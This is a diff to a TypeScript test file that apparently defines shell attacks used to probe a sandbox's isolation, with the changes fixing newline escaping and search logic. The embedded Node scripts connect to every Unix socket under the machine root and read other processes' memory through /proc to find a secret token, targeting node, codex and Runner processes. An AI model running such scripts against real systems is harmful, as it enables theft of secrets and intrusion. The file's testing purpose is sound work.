@@ -112,7 +112,7 @@ export function shellAttacks(m: Machine): Attack[] {
     {
       name: 'connect to every socket',
       script: node(
-        `const fs=require("fs"),net=require("net");for(const p of new Set(fs.readFileSync("/proc/net/unix","utf8").split("\n").map(l=>l.split(/\\s+/)[7]).filter(p=>p&&p.startsWith("${m.root}"))))net.connect(p).on("data",d=>process.stdout.write(d)).on("error",()=>{});setTimeout(()=>process.exit(),700)`,
+        `const fs=require("fs"),net=require("net");for(const p of new Set(fs.readFileSync("/proc/net/unix","utf8").split("\\n").map(l=>l.split(/\\s+/)[7]).filter(p=>p&&p.startsWith("${m.root}"))))net.connect(p).on("data",d=>process.stdout.write(d)).on("error",()=>{});setTimeout(()=>process.exit(),700)`,
       ),
     },
     // Rights.
@@ -221,10 +221,10 @@ const fs=require("fs"),me=String(process.pid),want=Buffer.from(["S3C","R3T-","me
 for(const pid of fs.readdirSync("/proc").filter(p=>/^\\d+$/.test(p)&&p!==me)){try{
   if(!/node|codex|Runner/.test(fs.readlinkSync("/proc/"+pid+"/exe")))continue;
   const fd=fs.openSync("/proc/"+pid+"/mem","r");
-  for(const line of fs.readFileSync("/proc/"+pid+"/maps","utf8").split("\n")){
+  for(const line of fs.readFileSync("/proc/"+pid+"/maps","utf8").split("\\n")){
     const m=/^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line);if(!m)continue;
     const at=BigInt("0x"+m[1]),size=Number(BigInt("0x"+m[2])-at);if(size>67108864)continue;
     const b=Buffer.alloc(size);try{fs.readSync(fd,b,0,size,at)}catch{continue}
-    const i=b.indexOf(want);if(i>=0){console.log(b.subarray(i,i+64).toString("latin1").replace(/[^ -~]/g,"?"));process.exit()}
+    for(let i=b.indexOf(want);i>=0;i=b.indexOf(want,i+1)){const s=b.subarray(i,i+40).toString("latin1");if(/-[0-9a-f]{16}/.test(s)){console.log(s.replace(/[^ -~]/g,"?"));process.exit()}}
   }}catch(e){}}
 `
